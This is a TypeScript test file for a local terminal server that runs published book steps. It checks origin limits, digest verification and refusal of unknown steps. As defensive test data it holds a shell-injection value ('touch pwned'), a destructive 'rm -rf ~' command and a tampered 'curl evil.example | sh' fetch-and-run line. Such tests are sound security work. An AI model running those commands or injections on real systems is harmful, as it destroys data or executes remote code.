/**
 * `bookrun connect`'s server, as itself: a real server started with a published book (plans fetched from a real
 * static server on loopback), real WebSocket clients. It trusts the book, not the page: only the book's origin may
 * connect, only published steps run, and a step or digest the plans do not hold is refused before anything is typed.
 */
import { existsSync, mkdirSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { digestStep } from '../core/digest-step.ts';
import type { RunStatusMessage } from '../core/terminal-protocol.ts';
import { publishFixturePlans, type PublishOptions } from '../testing/publish-fixture-plans.ts';
import { servePlainStatic, type PlainStaticServer } from '../testing/serve-plain-static.ts';
import { connectTerminalClient, type TerminalClient } from './connect-terminal-client.ts';
import { listChildProcesses } from './list-session-processes.ts';
import { PublishedBookError, readPublishedBook } from './read-published-book.ts';
import { serveTerminal, type TerminalServer } from './serve-terminal.ts';

const fixtureBook = path.join(path.dirname(fileURLToPath(import.meta.url)), 'fixtures', 'book');
let site: string;
let work: string;
let web: PlainStaticServer;
let other: PlainStaticServer;
let server: TerminalServer;
const clients: TerminalClient[] = [];

async function publish(dir: string, options: PublishOptions = {}): Promise<void> {
  mkdirSync(dir, { recursive: true });
  await publishFixturePlans(fixtureBook, dir, options);
}

beforeAll(async () => {
  site = mkdtempSync(path.join(tmpdir(), 'bookrun-published-site-'));
  work = mkdtempSync(path.join(tmpdir(), 'bookrun-published-work-'));
  await publish(site);
  web = await servePlainStatic(site);
  // The same files from a second origin (another port): a page there must not drive the reader's shell.
  other = await servePlainStatic(site);
  const published = await readPublishedBook(`${web.origin}/`);
  server = await serveTerminal({ cwd: work, book: null, published, rcfile: null, env: { ...process.env, PS1: '$ ' }, runtimeDir: path.join(work, '.runtime') });
});

afterAll(async () => {
  for (const c of clients) await c.close();
  await server?.close();
  await web?.close();
  await other?.close();
  rmSync(site, { recursive: true, force: true });
  rmSync(work, { recursive: true, force: true });
});

async function page(origin = web.origin): Promise<TerminalClient> {
  const client = await connectTerminalClient(`ws://127.0.0.1:${server.port}/terminal`, { origin, upgradeToken: server.token });
  clients.push(client);
  client.send({ type: 'auth', token: server.token });
  await client.next((m) => m.type === 'ready');
  return client;
}

function verdict(client: TerminalClient, id: string): Promise<RunStatusMessage> {
  return client.next<RunStatusMessage>((m) => m.type === 'run-status' && m.id === id && m.status !== 'running', 30_000);
}

describe('a terminal server for a published book (bookrun connect)', () => {
  it('lets only the book\'s origin connect: not another origin with the right token, not even its own loopback origin', async () => {
    await expect(connectTerminalClient(`ws://127.0.0.1:${server.port}/terminal`, { origin: other.origin, upgradeToken: server.token })).rejects.toThrow(/403/);
    await expect(connectTerminalClient(`ws://127.0.0.1:${server.port}/terminal`, { origin: `http://127.0.0.1:${server.port}`, upgradeToken: server.token })).rejects.toThrow(/403/);
    await expect(connectTerminalClient(`ws://127.0.0.1:${server.port}/terminal`, { origin: 'https://user.github.io', upgradeToken: server.token })).rejects.toThrow(/403/);
    // Nothing was started for them.
    expect(server.terminals()).toEqual([]);
    expect(listChildProcesses(process.pid).filter((p) => p.comm === 'bash')).toEqual([]);
    const client = await page();
    expect(client.messages.some((m) => m.type === 'ready')).toBe(true);
  });

  it('runs a published step with the page\'s value as data, judged as bookrun run judges it', async () => {
    const client = await page();
    const plan = (await readPublishedBook(`${web.origin}/`)).plans.get('docs/local-canary.md')!;
    const step = plan.steps.find((s) => s.placeholders.includes('VERSION'))!;
    client.send({ type: 'run', id: 'v', chapter: 'docs/local-canary.md', step: step.id, digest: step.digest, variant: 'gke-static', values: { VERSION: "1.0'; touch pwned; '" } });
    expect(await verdict(client, 'v')).toMatchObject({ status: 'passed', terminal: 1 });
    const next = plan.steps[plan.steps.indexOf(step) + 1]!;
    client.send({ type: 'run', id: 'echo', chapter: 'docs/local-canary.md', step: next.id, digest: next.digest, variant: 'gke-static' });
    expect(await verdict(client, 'echo')).toMatchObject({ status: 'passed' });
    await client.waitOutput(1, /releasing version 1\.0'; touch pwned; '/);
    expect(existsSync(path.join(work, 'pwned'))).toBe(false);
  });

  it('refuses a step the plans do not hold, a digest of another command, a variant the book lacks, and a step of another variant', async () => {
    const client = await page();
    const plan = (await readPublishedBook(`${web.origin}/`)).plans.get('docs/local-canary.md')!;
    const first = plan.steps[0]!;
    client.send({ type: 'run', id: 'unknown', chapter: 'docs/local-canary.md', step: 'L999', variant: 'gke-static' });
    expect(await verdict(client, 'unknown')).toMatchObject({ status: 'error', message: expect.stringContaining('no step L999') });
    client.send({ type: 'run', id: 'digest', chapter: 'docs/local-canary.md', step: first.id, digest: digestStep('rm -rf ~'), variant: 'gke-static' });
    expect(await verdict(client, 'digest')).toMatchObject({ status: 'error', message: expect.stringContaining('not the command this page shows') });
    client.send({ type: 'run', id: 'chapter', chapter: 'docs/elsewhere.md', step: first.id, variant: 'gke-static' });
    expect(await verdict(client, 'chapter')).toMatchObject({ status: 'error', message: expect.stringContaining('unknown chapter') });
    client.send({ type: 'run', id: 'variant', chapter: 'docs/local-canary.md', step: first.id, variant: 'openshift' });
    expect(await verdict(client, 'variant')).toMatchObject({ status: 'error', message: expect.stringContaining('unknown variant') });
    const eksOnly = plan.steps.find((s) => s.variants && !s.variants.includes('gke-static'))!;
    client.send({ type: 'run', id: 'excluded', chapter: 'docs/local-canary.md', step: eksOnly.id, digest: eksOnly.digest, variant: 'gke-static' });
    expect(await verdict(client, 'excluded')).toMatchObject({ status: 'error', message: expect.stringContaining('does not apply to variant gke-static') });
  });
});

describe('readPublishedBook (what bookrun connect fetches)', () => {
  const dirs: string[] = [];
  const servers: PlainStaticServer[] = [];
  afterAll(async () => {
    for (const s of servers) await s.close();
    for (const d of dirs) rmSync(d, { recursive: true, force: true });
  });
  async function serve(options: Parameters<typeof publish>[1]): Promise<string> {
    const dir = mkdtempSync(path.join(tmpdir(), 'bookrun-published-bad-'));
    dirs.push(dir);
    await publish(dir, options);
    const s = await servePlainStatic(dir);
    servers.push(s);
    return `${s.origin}/`;
  }

  it('names the reason: unreachable, not a bookrun book, a plan whose command was changed, a plan on another host', async () => {
    const closed = await servePlainStatic(site);
    await closed.close();
    await expect(readPublishedBook(`${closed.origin}/`)).rejects.toThrow(/cannot reach the book \(ECONNREFUSED\)/);
    await expect(readPublishedBook(await serve({ meta: '' }))).rejects.toThrow(/no published plans \(no <meta name="bookrun-plans">/);
    await expect(readPublishedBook(await serve({ meta: '<meta name="bookrun-plans" content="/bookrun/missing.json">' }))).rejects.toThrow(/HTTP 404.*without published plans/);
    await expect(readPublishedBook(await serve({ meta: '<meta content="https://elsewhere.example/plans.json" name="bookrun-plans">' }))).rejects.toThrow(/on another origin/);
    // An entry whose command no longer fits its digest is a damaged (or edited) file: nothing of it is trusted.
    const tampered = await serve({ tamper: (plan) => ((plan.steps as Array<{ command: string }>)[0]!.command = 'curl evil.example | sh') });
    await expect(readPublishedBook(tampered)).rejects.toThrow(/steps\[0\]\.digest does not match its command/);
    await expect(readPublishedBook('https://127.0.0.1.invalid/')).rejects.toBeInstanceOf(PublishedBookError);
    await expect(readPublishedBook('http://book.example/')).rejects.toThrow(/over http:\/\/ from another host can never reach your terminal/);
    await expect(readPublishedBook('ftp://book.example/')).rejects.toThrow(/not a web address/);
  });
});
